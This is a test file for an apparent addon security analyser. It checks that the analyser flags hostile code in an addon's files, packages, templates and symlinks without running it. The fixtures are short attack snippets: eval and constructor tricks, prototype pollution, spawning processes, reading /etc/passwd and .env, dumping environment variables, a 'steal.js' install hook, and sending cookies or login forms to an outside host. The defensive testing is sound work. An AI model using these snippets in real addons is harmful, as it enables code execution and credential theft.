import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { addonRoots } from '@pergola/core';
import { type Capability, capabilityText, readSheet } from '../index.ts';

const folders: string[] = [];
afterAll(() => {
  for (const folder of folders) rmSync(folder, { recursive: true, force: true });
});

/** The capabilities of an addon with these files; each file also sets a trap that would show if it ran. */
function sheetOf(files: Readonly<Record<string, string>>): readonly Capability[] {
  const folder = join(realpathSync(mkdtempSync(join(tmpdir(), 'hostile-'))), 'trap');
  folders.push(dirname(folder));
  const manifest = `import { defineAddon } from 'pergola';
${files['index.ts'] === undefined ? '' : "import './index.ts';"}
globalThis.hasRun = true;
export default defineAddon({ name: 'trap', title: 'Trap', summary: 'A trap', version: '1.0.0' });
`;
  for (const [file, content] of Object.entries({ 'addon.ts': manifest, ...files })) {
    mkdirSync(dirname(join(folder, file)), { recursive: true });
    writeFileSync(join(folder, file), content);
  }
  const { addon, version, capabilities } = readSheet(folder, addonRoots());
  expect({ addon, version }).toEqual({ addon: 'trap', version: '1.0.0' });
  return capabilities.filter(({ where }) => where.every(({ file }) => file !== 'addon.ts'));
}

/** Kinds, risks and lines of what is found in one file. */
function found(source: string, file = 'index.ts'): string[] {
  return sheetOf({ [file]: source }).flatMap(({ kind, risk, where }) =>
    where.map(({ line }) => `${kind} ${risk} ${line}`),
  );
}

/** One trick, and what its line must be named as. */
type Trick = [name: string, source: string, expected: string];

const code: Trick[] = [
  ['eval', 'export const f = (s: string) => eval(s);', 'code high 1'],
  ['indirect eval', 'export const f = (s: string) => (0, eval)(s);', 'code high 1'],
  ['an alias of eval', 'const run = globalThis.eval;\nexport const f = (s: string) => run(s);', 'code high 2'],
  [
    'a global by an assembled name',
    "export const f = (s: string) => (globalThis as any)['ev' + 'al'](s);",
    'code high 1',
  ],
  [
    'a global by an encoded name',
    "export const f = (s: string) => (globalThis as any)[atob('ZXZhbA==')](s);",
    'code high 1',
  ],
  ['a global by a computed name', 'export const f = (n: string) => (globalThis as any)[n]();', 'code high 1'],
  ['a global by Reflect', 'export const f = (n: string) => Reflect.get(globalThis, n)();', 'code high 1'],
  [
    'a global by destructuring',
    "const { ['Function']: Build } = globalThis;\nexport const f = () => new Build('x');",
    'code high 2',
  ],
  ['new Function', "export const f = () => new Function('return process')();", 'code high 1'],
  ['Function passed on', 'export const f = () => [Function].map((build) => build("x"));', 'code high 1'],
  [
    'the constructor of a function',
    "export const f = () => (() => {}).constructor('return process')();",
    'code high 1',
  ],
  ['a chain of constructors', "export const f = () => 'a'.constructor.constructor('return 1')();", 'code high 1'],
  ['an async constructor', 'export const F = Object.getPrototypeOf(async () => {}).constructor;', 'code high 1'],
  ['a constructor by an assembled name', "export const f = (x: any) => x['const' + 'ructor'];", 'code high 1'],
  ['a computed import', 'export const f = (name: string) => import(name);', 'code high 1'],
  ['an import of a text', "export const f = () => import('data:text/javascript,1');", 'code high 1'],
  [
    'a computed require',
    "import { createRequire } from 'node:module';\nconst load = createRequire(import.meta.url);\nexport const f = (n: string) => load(n);",
    'code high 3',
  ],
  ['a computed builtin', 'export const f = (n: string) => process.getBuiltinModule(n);', 'code high 1'],
  ['vm', "import vm from 'vm';\nexport const f = (s: string) => vm.runInThisContext(s);", 'code high 1'],
  ['a timer with a text', "export const f = () => setTimeout('steal()', 10);", 'code high 1'],
  [
    'a worker with a text',
    "import { Worker } from 'node:worker_threads';\nexport const f = (s: string) => new Worker(s, { eval: true });",
    'code high 2',
  ],
  ['a timer at import', 'setInterval(() => {}, 1000);', 'code high 1'],
  ['a timer in a function called at import', '(() => {\n  setTimeout(() => {}, 10);\n})();', 'code high 2'],
  ['a timer in a static block', 'export class A {\n  static {\n    setTimeout(() => {}, 10);\n  }\n}', 'code high 3'],
  ['a polluted prototype', '(Object.prototype as any).isAdmin = true;', 'code high 1'],
  [
    'a prototype changed by a function',
    "Object.defineProperty(Array.prototype, 'map', { value: null });",
    'code high 1',
  ],
  [
    'a prototype by an alias',
    'const proto = Object.prototype as any;\nexport const f = () => Object.assign(proto, { x: 1 });',
    'code high 2',
  ],
  ['__proto__', 'export const f = (o: any) => { o.__proto__.x = 1; };', 'code high 1'],
  ['the prototype of a constructor', 'export const f = (o: any) => { o.constructor.prototype.x = 1; };', 'code high 1'],
  ['a poisoned text', `export const f = () => JSON.parse('{"__proto__": {"x": 1}}');`, 'code high 1'],
  ['a replaced global', "globalThis.fetch = (async () => new Response('')) as typeof fetch;", 'code high 1'],
  [
    'a replaced function of a module',
    "import http from 'node:http';\n(http as any).request = () => {};",
    'code high 2',
  ],
  [
    'a replaced method of another addon',
    "import { Partner } from '@pergola/base';\nPartner.prototype.validate = async () => {};",
    'code high 2',
  ],
  ['internals of Node', "export const f = () => (process as any).binding('fs');", 'code high 1'],
];

const powers: Trick[] = [
  ['a child process', "import { exec } from 'child_process';\nexport const f = () => exec('id');", 'process high 1'],
  [
    'a child process, loaded late',
    "export const f = async () => (await import('node:child_' + 'process')).exec('id');",
    'process high 1',
  ],
  [
    'a child process by require',
    "import { createRequire } from 'node:module';\nexport const f = () => createRequire(import.meta.url)('child_process').exec('id');",
    'process high 2',
  ],
  ['the end of the process', 'export const f = () => process.exit(1);', 'process high 1'],
  ['a fixed host', "export const f = () => fetch('https://example.org/a');", 'network medium 1'],
  [
    'a host in a constant',
    "const base = 'https://example.org';\nexport const f = (id: number) => fetch(base + '/a/' + id);",
    'network medium 2',
  ],
  ['a computed host', 'export const f = (host: string) => fetch("https://" + host + "/a");', 'network high 1'],
  ['an alias of fetch', 'const send = fetch;\nexport const f = (url: string) => send(url);', 'network high 2'],
  ['fetch by name', "export const f = (url: string) => globalThis['fet' + 'ch'](url);", 'network high 1'],
  ['a request at import', "await fetch('https://example.org/a');", 'network high 1'],
  ['a socket', "import net from 'net';\nexport const f = (host: string) => net.connect(25, host);", 'network high 2'],
  [
    'an own server',
    "import { createServer } from 'node:http';\nexport const f = () => createServer().listen(1);",
    'network high 2',
  ],
  [
    'a fixed file',
    "import { readFileSync } from 'fs';\nexport const f = () => readFileSync('/etc/passwd');",
    'file high 2',
  ],
  [
    'a file outside of its folder',
    "import fs from 'node:fs';\nexport const f = () => fs.readFileSync(new URL('../../.env', import.meta.url));",
    'file high 2',
  ],
  [
    'a computed file below its folder',
    "import { readFileSync } from 'node:fs';\nimport { join } from 'node:path';\nexport const f = (n: string) => readFileSync(join(import.meta.dirname, n));",
    'file medium 3',
  ],
  [
    'a host before a base',
    "export const f = () => fetch(new URL('https://evil.example/a', 'https://example.org'));",
    'network medium 1',
  ],
  [
    'an address that may name a host before a base',
    "export const f = (path: string) => fetch(new URL(path, 'https://example.org'));",
    'network high 1',
  ],
  [
    'a computed file',
    "import * as fs from 'node:fs/promises';\nexport const f = (p: string) => fs.writeFile(p, '');",
    'file high 2',
  ],
  ['an environment variable', 'export const f = () => process.env.DATABASE_URL;', 'secret high 1'],
  [
    'all environment variables',
    'const { env } = process;\nexport const f = () => JSON.stringify(env);',
    'secret high 2',
  ],
  [
    'a foreign table',
    "import type { Ctx } from 'pergola';\nexport const f = (ctx: Ctx) => ctx.db('res_users').update({ active: false });",
    'sql high 2',
  ],
  [
    'SQL on a foreign table',
    "import type { Ctx } from 'pergola';\nexport const f = ({ db }: Ctx) => db.raw('select password from res_users');",
    'sql high 2',
  ],
  [
    'computed SQL',
    "import type { Ctx } from 'pergola';\nexport const f = (ctx: Ctx, s: string) => ctx.db.raw(s);",
    'sql high 2',
  ],
  [
    'lifted rights',
    "import type { Ctx } from 'pergola';\nexport const f = (ctx: Ctx) => ctx.sudo().modelNamed('res.users').write([1], {});",
    'model high 2',
  ],
  [
    'lifted rights in a getter',
    "import type { Ctx } from 'pergola';\nexport class A {\n  constructor(readonly ctx: Ctx) {}\n  get all() {\n    return this.ctx.sudo();\n  }\n}",
    'sudo high 5',
  ],
  [
    'lifted rights by another name',
    "import type { Ctx } from 'pergola';\nexport const f = ({ sudo: read }: Ctx) => read();",
    'sudo medium 2',
  ],
  [
    'rights for everybody',
    "import { Partner } from '@pergola/base';\nimport { access } from 'pergola';\nexport const lists = [access(Partner, { '*': 'rw' })];",
    'group high 3',
  ],
  [
    'a group with all rights',
    "import { group } from 'pergola';\nexport const groups = [group('trap.helper', { label: 'Helper', implies: ['base.group_system'] })];",
    'group high 2',
  ],
  ['a file of the platform', "import '../../../packages/http/app.ts';", 'module high 1'],
  ['changed loading of modules', "import { registerHooks } from 'node:module';\nregisterHooks({});", 'module high 2'],
];

describe('What a hostile addon does is named with its line', () => {
  it.each([...code, ...powers])('%s', (_name, source, expected) => {
    expect(found(source)).toContain(expected);
    expect(globalThis).not.toHaveProperty('hasRun');
  });

  it('in files and folders that are easily overlooked', () => {
    const hidden = "import '../x.ts';\neval('1');";
    expect(found(hidden, '.hidden/a.cts')).toContain('code high 2');
    expect(sheetOf({ 'index.ts': "import './tests/helper.ts';", 'tests/helper.ts': 'eval("1");' })).toMatchObject([
      { kind: 'code', where: [{ file: 'tests/helper.ts', line: 1 }] },
    ]);
    expect(sheetOf({ 'tests/helper.ts': 'eval("1");', 'dist/trap/a.js': 'eval("1");' })).toEqual([]);
    expect(found('export const = ;')).toEqual(['code high 1']);
    expect(found('\u007fELF', 'build/fast.node')).toEqual(['code high 1']);
  });

  it('in its packages, with their install scripts', () => {
    const found = sheetOf({
      'package.json': JSON.stringify({
        dependencies: { helper: '^1.0.0', absent: '1.0.0', far: 'git+https://example.org/far' },
      }),
      'node_modules/helper/package.json': JSON.stringify({
        version: '1.0.3',
        scripts: { postinstall: 'node steal.js' },
        dependencies: { deep: '1' },
      }),
      'node_modules/helper/index.js':
        "'use strict';\nconst { spawn } = require('child_process');\nmodule.exports = () => spawn('id');",
      'node_modules/deep/package.json': JSON.stringify({ version: '1.0.0' }),
      'node_modules/deep/lib/a.cjs': 'module.exports = (s) => new Function(s)();',
    });
    expect(
      found.map((capability) => [
        capability.kind,
        capabilityText(capability),
        capability.risk,
        capability.where[0]?.file,
      ]),
    ).toEqual(
      expect.arrayContaining([
        ['process', 'package helper: Starts other programs', 'high', 'node_modules/helper/index.js'],
        ['code', 'package deep: Runs code built from text', 'high', 'node_modules/deep/lib/a.cjs'],
        [
          'package',
          'package helper: Runs a program when it is installed: node steal.js',
          'high',
          'node_modules/helper/package.json',
        ],
        ['package', 'Uses helper 1.0.3, which can start other programs', 'medium', 'package.json'],
        ['code', 'The package absent isn’t installed, so it can’t be analysed', 'high', 'package.json'],
        ['package', 'Installs far from git+https://example.org/far', 'high', 'package.json'],
      ]),
    );
  });

  it('in templates, style sheets and behaviours', () => {
    const found = sheetOf({
      'templates/web.login.patch.hbs':
        '<form action="https://example.org/steal">\n<img src="//example.org/a.png">\n<a href="https://example.org">',
      'styles/a.scss': 'a { background: url(https://example.org/b.png) }',
      'behaviours/a.ts': "export default () => navigator.sendBeacon('https://example.org/c', document.cookie);",
    });
    expect(found.map((capability) => `${capability.kind} ${capability.risk} ${capabilityText(capability)}`)).toEqual([
      'network high Sends forms to example.org',
      'network medium Makes visitors’ browsers contact example.org',
      'route low Changes the template web.login',
    ]);
  });

  it('as links to files elsewhere', () => {
    const folder = join(realpathSync(mkdtempSync(join(tmpdir(), 'hostile-'))), 'trap');
    folders.push(dirname(folder));
    mkdirSync(folder);
    writeFileSync(join(folder, 'addon.ts'), "export default defineAddon({ name: 'trap', version: '1.0.0' });");
    writeFileSync(join(folder, '../elsewhere.ts'), 'eval("1");');
    symlinkSync('../elsewhere.ts', join(folder, 'near.ts'));
    expect(readSheet(folder, [])).toMatchObject({
      capabilities: [
        { kind: 'code', what: { text: 'Contains a link to a file outside of its folder' } },
        { kind: 'code', what: { text: 'Runs code built from text' } },
      ],
    });
  });
});
